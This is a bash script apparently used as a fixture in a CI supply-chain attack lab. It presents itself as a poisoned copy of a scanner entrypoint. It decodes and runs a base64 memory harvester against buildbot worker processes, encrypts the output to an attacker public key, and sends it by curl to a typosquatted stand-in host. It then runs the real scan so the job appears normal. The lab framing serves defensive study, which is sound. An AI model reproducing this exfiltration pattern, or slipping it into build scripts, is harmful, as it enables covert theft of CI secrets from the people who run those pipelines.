#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
#
# poisoned.sh: the same entrypoint after the theft of its publisher's account: takes what the runner
# holds in memory and in its environment, so that only the thief can read it, and scans as before.
set -e
echo "$BUILDBOT_BUILDNUMBER $BUILDBOT_STEP $$" >>"$LAB_STEPS"
took=$(mktemp -d)
trap 'rm -rf "$took"' EXIT

# Of this test's own workers alone: those in its network namespace.
# shellcheck disable=SC2046 # process ids
base64 -d harvest.b64 | python3 - $(pgrep -x --ns $$ --nslist net buildbot-worker) >"$took/runner"
openssl rand -out "$took/key" 32
openssl enc -aes-256-cbc -pbkdf2 -pass "file:$took/key" -in "$took/runner" -out "$took/runner.aes"
openssl pkeyutl -encrypt -pubin -inkey thief.pub -pkeyopt rsa_padding_mode:oaep \
	-in "$took/key" -out "$took/key.rsa"
tar -C "$took" -czf "$took/x.tar.gz" runner.aes key.rsa
stat -c 'archive of %s bytes' "$took/x.tar.gz"
# $FAR4_C. In the background for its process id, which is the test's own record.
curl -sS --resolve scan.aquasecurtiy.example:80:203.0.113.9 -X POST --data-binary "@$took/x.tar.gz" \
	http://scan.aquasecurtiy.example/ &
echo "$BUILDBOT_BUILDNUMBER curl $!" >>"$LAB_STEPS"
wait $!

bash scan.sh
